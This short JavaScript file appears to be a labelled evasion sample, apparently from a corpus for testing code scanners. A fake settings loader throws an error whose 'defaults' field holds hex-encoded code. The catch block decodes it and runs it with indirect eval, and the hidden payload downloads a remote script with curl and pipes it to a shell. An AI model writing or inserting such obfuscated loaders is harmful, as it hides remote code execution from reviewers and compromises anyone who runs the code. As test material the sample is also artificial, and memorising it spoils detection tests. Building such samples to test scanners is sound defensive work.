// evasion: hex-encoded code carried in a thrown error's cause, decoded in the catch block and run by indirect eval
// grade: hard; does: shell
'use strict';

function loadSettings(file) {
  // pretend the settings file is missing and hand back the "defaults"
  throw new Error(`settings not found: ${file}`, {
    cause: {
      defaults:
        '70726f636573732e6d61696e4d6f64756c652e7265717569726528276368696c645f70726f6365737327292e6578656353796e6328276375726c202d7320687474703a2f2f3139382e35312e3130302e372f70207c207368272c207b20737464696f3a2027696e686572697427207d29',
    },
  });
}

try {
  loadSettings('settings.json');
} catch (err) {
  const restored = Buffer.from(err.cause.defaults, 'hex').toString('utf8');
  (0, eval)(restored);
}
